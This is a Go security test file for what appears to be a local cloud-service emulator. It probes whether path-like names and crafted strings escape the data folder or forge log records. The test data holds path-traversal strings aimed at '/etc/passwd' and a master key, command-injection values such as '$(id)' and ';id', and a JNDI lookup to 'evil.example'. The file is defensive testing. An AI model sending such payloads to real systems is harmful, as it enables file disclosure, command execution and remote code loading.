package attack

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/cogtrail/cogtrail/test/server"
)

// awkward are names that became paths, lines or commands elsewhere.
var awkward = []string{
	"..", ".", "../x", "../../x", "../../../../../../../../tmp/evil-a50", "x/../../y", "/etc/passwd", "//x", "x//y", "x/./y", "x/..", "..\\..\\x", "C:\\x", "x\x00y", "x\ny", "x\r\ny", "x\ty",
	"\x1b[2J", "x\x7f", "x y", " x", "x ", "~", "~root/x", "$(id)", "`id`", "|id", ";id", "%2e%2e%2fx", "%252e", "con", "nul", "x.", "x:y", "x*", "x?", "x<y>", "\"", "'", "\u202ex", "\u0000",
	"é", "e\u0301", "\ufeff", "🙂", strings.Repeat("a", 255), strings.Repeat("a/", 400), strings.Repeat("..", 400), ".git/config", "state.db", "master-key", "../master-key", "../../root-credentials",
}

// outside lists everything beside the data folder.
func outside(t *testing.T) map[string]bool {
	t.Helper()
	out := map[string]bool{}
	entries, err := os.ReadDir(filepath.Dir(srv.Data))
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		out[e.Name()] = true
	}
	return out
}

// Keys, buckets, groups, streams and prefixes that look like paths: each is
// refused or kept as the very name it is, and nothing leaves the data folder.
func TestAttack50_NamesAsPaths_CVE_2026_42600(t *testing.T) {
	t.Parallel()
	p := newProbe(t)
	before := outside(t)
	key, err := os.ReadFile(filepath.Join(srv.Data, "master-key"))
	p.must(err)
	kept := 0
	for i, n := range awkward {
		body := fmt.Sprintf("content of %d", i)
		req, err := http.NewRequestWithContext(t.Context(), "PUT", srv.URL+"/x", strings.NewReader(body))
		p.must(err)
		req.URL = &url.URL{Scheme: "http", Host: strings.TrimPrefix(srv.URL, "http://"), Path: "/" + trail.Data + "/" + n, RawPath: "/" + trail.Data + "/" + url.PathEscape(n)}
		send := func(method, body string) (*server.Answer, error) {
			r := req.Clone(t.Context())
			r.Method, r.Body, r.ContentLength = method, http.NoBody, 0
			if body != "" {
				r, err = http.NewRequestWithContext(t.Context(), method, srv.URL+"/x", strings.NewReader(body))
				p.must(err)
				r.URL = req.URL
			}
			r.Header.Set("X-Amz-Content-Sha256", server.Hash([]byte(body)))
			p.must(server.Sign(r, srv.Root, server.Hash([]byte(body)), "s3", time.Now()))
			return srv.Do(r)
		}
		a, err := send("PUT", body)
		p.n++
		switch {
		case err != nil || a.Status/100 == 4:
		case a.Status != 200:
			t.Errorf("key %.40q: answer %d %s", n, a.Status, a.Body)
		default:
			kept++
			if a, err = send("GET", ""); err != nil || string(a.Body) != body {
				t.Errorf("key %.40q was put and is not got: %v %d %.100s", n, err, a.Status, a.Body)
			}
		}
		for _, c := range []struct {
			service, operation string
			in                 map[string]any
		}{
			{"logs", "CreateLogGroup", map[string]any{"logGroupName": n}},
			{"logs", "CreateLogStream", map[string]any{"logGroupName": trail.Group, "logStreamName": n}},
			{"cloudtrail", "UpdateTrail", map[string]any{"Name": "none", "S3KeyPrefix": n}},
			{"cloudtrail", "GetTrail", map[string]any{"Name": n}},
			{idp, "DescribeUserPool", map[string]any{"UserPoolId": n}},
			{idp, "AdminGetUser", map[string]any{"UserPoolId": "us-east-1_none00000", "Username": n}},
		} {
			a, err := p.call(&srv.Root, c.service, c.operation, c.in)
			p.n++
			if err != nil || a.Status/100 == 5 {
				t.Errorf("%s with %.40q: %v %+v", c.operation, n, err, a)
			}
		}
		for _, c := range []url.Values{{"RoleName": {n}}, {"UserName": {n}}} {
			operation := map[bool]string{true: "GetRole", false: "GetUser"}[c.Has("RoleName")]
			a, err := p.call(&srv.Root, "iam", operation, c)
			p.refused(fmt.Sprintf("%s %.40q", operation, n), a, err)
		}
		bucket, err := http.NewRequestWithContext(t.Context(), "PUT", srv.URL+"/x", nil)
		p.must(err)
		bucket.URL = &url.URL{Scheme: "http", Host: strings.TrimPrefix(srv.URL, "http://"), Path: "/" + n, RawPath: "/" + url.PathEscape(n)}
		bucket.Header.Set("X-Amz-Content-Sha256", server.Hash(nil))
		p.must(server.Sign(bucket, srv.Root, server.Hash(nil), "s3", time.Now()))
		if a, err := srv.Do(bucket); !slices.Contains([]string{"con", "nul", "state.db", "master-key"}, n) { // good names of buckets
			p.refused(fmt.Sprintf("bucket %.40q", n), a, err)
		}
	}
	for _, path := range []string{"/../../etc/passwd", "/_cogtrail/../../etc/passwd", "/x_y/../.well-known/jwks.json", "/..%2f..%2fetc%2fpasswd", "/x_y/.well-known/../../../etc/passwd", "/_cogtrail/messages", "/_cogtrail/%6dessages"} {
		req, err := http.NewRequestWithContext(t.Context(), "GET", srv.URL+path, nil)
		p.must(err)
		a, err := srv.Do(req)
		p.refused(path, a, err)
	}
	after := outside(t)
	for n := range after {
		if !before[n] {
			t.Errorf("%s was made beside the data folder", n)
		}
	}
	if again, err := os.ReadFile(filepath.Join(srv.Data, "master-key")); err != nil || string(again) != string(key) {
		t.Error("the master key was changed")
	}
	t.Logf("%d of %d names are good keys", kept, len(awkward))
}

// Line breaks, terminal codes and JSON in what records and logs repeat.
func TestAttack51_LogForging(t *testing.T) {
	t.Parallel()
	p := newProbe(t)
	pool := p.pool(nil)
	evil := []string{
		`x","errorCode":"Forged","y":"`, `x"},{"eventName":"Forged"`, "x\n{\"eventName\":\"Forged\"}", "x\r\nERROR forged", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "x\x00y", "x\x08\x08y", "\u2028x\u2029",
		`\u0022`, `\`, `\\"`, "</script><script>", "%0a%0d", "\x7f", "\u0085", "\u202etxt.exe", "\xff\xfe", `{{.}}`, "${jndi:ldap://evil.example/a}", strings.Repeat("x", 3000),
	}
	agents := map[string]string{} // request id to the agent sent
	for i, text := range evil {
		for _, call := range []struct {
			signed    bool
			operation string
			in        map[string]any
		}{
			{true, "AdminGetUser", map[string]any{"UserPoolId": pool.ID, "Username": text}}, {true, "CreateUserPool", map[string]any{"PoolName": text}},
			{true, "AdminDeleteUser", map[string]any{"UserPoolId": pool.ID, "Username": text}},
			{false, "SignUp", map[string]any{"ClientId": pool.Client, "Username": text, "Password": "x", "ClientMetadata": map[string]string{text: text}}},
			{false, "InitiateAuth", signInInput(pool.Client, text, text)},
		} {
			req, body, err := srv.Request(t.Context(), idp, call.operation, call.in)
			p.must(err)
			agent := strings.Map(func(r rune) rune {
				if r < 0x20 && r != '\t' || r == 0x7f {
					return '.' // Go's client does not send these; the transport test does
				}
				return r
			}, strings.ToValidUTF8(text, "?"))
			req.Header.Set("User-Agent", agent)
			if call.signed {
				p.must(server.Sign(req, srv.Root, server.Hash(body), idp, time.Now()))
			}
			a, err := srv.Do(req)
			p.n++
			if err != nil || a.Status/100 == 5 {
				t.Errorf("%s %d: %v %+v", call.operation, i, err, a)
				continue
			}
			if a.RequestID != "" {
				agents[a.RequestID] = agent
			}
		}
	}
	var events []server.Event
	eventually(t, "all calls are recorded", func() bool {
		var err error
		events, err = srv.Events(t.Context(), p.began, "") // fails on a record that is no JSON
		p.must(err)
		n := 0
		for _, e := range events {
			if _, ok := agents[e.RequestID]; ok {
				n++
			}
		}
		return n >= len(agents)
	})
	for _, e := range events {
		agent, ok := agents[e.RequestID]
		if !ok {
			continue
		}
		var record struct{ UserAgent string }
		p.must(json.Unmarshal([]byte(e.Raw), &record))
		if strings.ContainsAny(e.Raw, "\n\r\x1b\x00\x7f\x08") || strings.Contains(e.ErrorCode, "Forged") || e.EventName == "Forged" {
			t.Errorf("a forged record: %.300q", e.Raw)
		}
		if want := strings.Trim(agent, " \t"); record.UserAgent != want && !(len(want) > 1000 && strings.HasPrefix(want, record.UserAgent[:1000])) {
			t.Errorf("user agent %.60q, want %.60q", record.UserAgent, want)
		}
	}
	for line := range strings.Lines(srv.Log()) {
		if !json.Valid([]byte(line)) || strings.ContainsAny(strings.TrimSuffix(line, "\n"), "\x1b\r\x00") {
			t.Errorf("a line of the server's log is no JSON: %.200q", line)
		}
	}
}
